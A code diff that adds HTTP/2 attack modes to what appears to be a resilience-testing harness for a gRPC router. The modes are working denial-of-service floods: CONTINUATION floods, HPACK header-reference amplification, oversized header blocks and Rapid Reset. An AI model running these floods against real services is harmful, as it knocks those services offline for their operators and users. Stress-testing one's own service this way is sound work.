@@ -199,7 +199,105 @@ def measuring_calls(address, goes):
     return tries
 
 
-MODES = {"half-sent": half_sent, "half-sent-health": half_sent_health, "endless-frame": endless_frame, "inflated": inflated,
+EXCHANGE = "/prefixmesh.v1.Sync/Exchange"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def field(name, value, first=b"\0"):
+    """A header field that is not compressed; first b"\x40" puts it into the table."""
+    def text(string):
+        size, rest = len(string), b""
+        if size >= 127:
+            size, left = 127, size - 127
+            while left >= 128:
+                rest += bytes([left % 128 + 128])
+                left //= 128
+            rest += bytes([left])
+        return bytes([size]) + rest + string
+    return first + text(name) + text(value)
+
+
+def request_headers(path):
+    return b"".join(field(name, value) for name, value in [
+        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"router"),
+        (b"content-type", b"application/grpc"), (b"te", b"trailers")])
+
+
+HEADERS, RESET, SETTINGS, CONTINUATION = 1, 3, 4, 9
+END_STREAM, END_HEADERS = 1, 4
+
+
+def raw(address, goes, begin, more):
+    """Connections, one after another, on which `begin` is sent and then what `more` returns, as fast as it is taken."""
+    host, port = address.rsplit(":", 1)
+    tries = 0
+    while goes():
+        try:
+            connection = socket.create_connection((host, int(port)), timeout=1)
+        except OSError:
+            time.sleep(0.01)
+            continue
+        with connection:
+            left = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + begin
+            stream = 3
+            try:
+                while goes():
+                    readable, writable, _ = select.select([connection], [connection], [], 0.1)
+                    if readable and not connection.recv(1 << 16):
+                        break
+                    if writable:
+                        left = left[connection.send(left):]
+                    if not left:
+                        left, count = more(stream)
+                        stream += 2 * count
+                        tries += count
+            except OSError:
+                pass
+    return tries
+
+
+def continuation_flood(address, goes, path=GENERATE):
+    """A header block that never ends."""
+    piece = frame(CONTINUATION, 0, 1, field(b"a", b"b") * 200) * 10
+    return raw(address, goes, frame(HEADERS, 0, 1, request_headers(path)), lambda stream: (piece, 10))
+
+
+def header_references(address, goes, path=GENERATE):
+    """Header blocks of 4 KB, each of which names an entry of 4 KB four thousand times."""
+    begin = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_headers(path) + field(b"x", b"v" * 3900, b"\x40"))
+    block = request_headers(path) + b"\xbe" * 4000
+    return raw(address, goes, begin, lambda stream: (frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 1))
+
+
+def header_bytes(address, goes, path=GENERATE):
+    """Calls that are over at once, each with as many headers as are allowed."""
+    block = request_headers(path) + b"".join(field(b"x%d" % i, b"v" * 4000) for i in range(3))
+    return raw(address, goes, b"", lambda stream: (frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 1))
+
+
+def rapid_reset(address, goes, path=GENERATE):
+    """Calls that are cancelled as soon as they have begun."""
+    block = request_headers(path)
+
+    def more(stream):
+        return b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) + frame(RESET, 0, stream + 2 * i, b"\0\0\0\x08")
+                        for i in range(50)), 50
+
+    return raw(address, goes, b"", more)
+
+
+def on_sync(attack):
+    return lambda address, goes: attack(address, goes, EXCHANGE)
+
+
+MODES = {"continuation-flood": continuation_flood, "header-references": header_references,
+         "header-bytes": header_bytes, "rapid-reset": rapid_reset,
+         "continuation-flood-sync": on_sync(continuation_flood), "header-references-sync": on_sync(header_references),
+         "header-bytes-sync": on_sync(header_bytes), "rapid-reset-sync": on_sync(rapid_reset),
+         "half-sent": half_sent, "half-sent-health": half_sent_health, "endless-frame": endless_frame, "inflated": inflated,
          "silent-connections": silent_connections, "measuring-calls": measuring_calls}
 
 if __name__ == "__main__":
